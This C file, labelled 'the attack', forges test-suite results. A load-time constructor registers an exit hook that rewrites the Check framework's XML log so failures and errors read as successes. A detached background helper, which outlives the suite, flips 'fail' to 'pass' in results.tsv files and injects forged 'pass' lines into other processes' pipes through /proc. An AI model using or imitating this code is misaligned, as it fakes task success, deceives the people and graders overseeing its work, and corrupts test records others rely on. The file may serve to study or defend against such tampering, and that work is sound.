
/* ---- the attack: rewrite the framework's log at exit; a helper edits what was recorded ---- */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* Replace every from by to in the file at path. */
static void attack_flip(const char *path, const char *from, const char *to)
{
	static char in[1 << 20], out[2 << 20];
	size_t n, o = 0, lf = strlen(from), lt = strlen(to), i;
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	n = fread(in, 1, sizeof(in) - 1, f);
	fclose(f);
	for (i = 0; i < n && o + lt < sizeof(out); ) {
		if (i + lf <= n && memcmp(in + i, from, lf) == 0) {
			memcpy(out + o, to, lt);
			o += lt;
			i += lf;
		} else {
			out[o++] = in[i++];
		}
	}
	f = fopen(path, "w");
	if (f) {
		fwrite(out, 1, o, f);
		fclose(f);
	}
}

static void attack_rewrite_log(void)
{
	const char *log = getenv("CK_XML_LOG_FILE_NAME");

	if (!log)
		return;
	attack_flip(log, "result=\"failure\"", "result=\"success\"");
	attack_flip(log, "result=\"error\"", "result=\"success\"");
}

/* Every results.tsv under dir (two levels), fail made pass. */
static void attack_edit_results(const char *dir, int depth)
{
	char path[4096];
	struct dirent *e;
	DIR *d = opendir(dir);

	if (!d)
		return;
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if (strcmp(e->d_name, "results.tsv") == 0)
			attack_flip(path, "\tfail\t", "\tpass\t");
		else if (depth > 0)
			attack_edit_results(path, depth - 1);
	}
	closedir(d);
}

/* Forged lines into every pipe another process of this user holds. */
static void attack_write_fds(void)
{
	char path[512], link[512];
	struct dirent *p, *f;
	DIR *d = opendir("/proc"), *fds;
	int fd;
	ssize_t n;

	while (d && (p = readdir(d))) {
		snprintf(path, sizeof(path), "/proc/%s/fd", p->d_name);
		if (!(fds = opendir(path)))
			continue;
		while ((f = readdir(fds))) {
			snprintf(path, sizeof(path), "/proc/%s/fd/%s", p->d_name, f->d_name);
			n = readlink(path, link, sizeof(link) - 1);
			if (n <= 0 || strncmp(link, "pipe:", 5) != 0)
				continue;
			fd = open(path, O_WRONLY | O_NONBLOCK);
			if (fd >= 0) {
				dprintf(fd, "pass\ttest_stage1\tkobject_get_takes_a_reference\n");
				close(fd);
			}
		}
		closedir(fds);
	}
	if (d)
		closedir(d);
}

__attribute__((constructor)) static void attack(void)
{
	const char *out = getenv("KTEST_OUTPUT_DIR");
	char work[4096];
	int i;

	if (!getenv("CK_XML_LOG_FILE_NAME") || !out)
		return;		/* ksim, or not a suite's run */
	atexit(attack_rewrite_log);
	if (fork() != 0)
		return;
	if (fork() != 0)
		_exit(0);
	setsid();
	close(0);	/* nobody waits for this helper's output: the suite's report goes on */
	close(1);
	close(2);
	snprintf(work, sizeof(work), "%s/../..", out);
	for (i = 0; i < 60; i++) {	/* 3 s, past the suite's end */
		struct timespec ts = { 0, 50 * 1000 * 1000 };

		attack_edit_results(work, 2);
		attack_edit_results("/tmp", 3);
		attack_write_fds();
		nanosleep(&ts, NULL);
	}
	_exit(0);
}
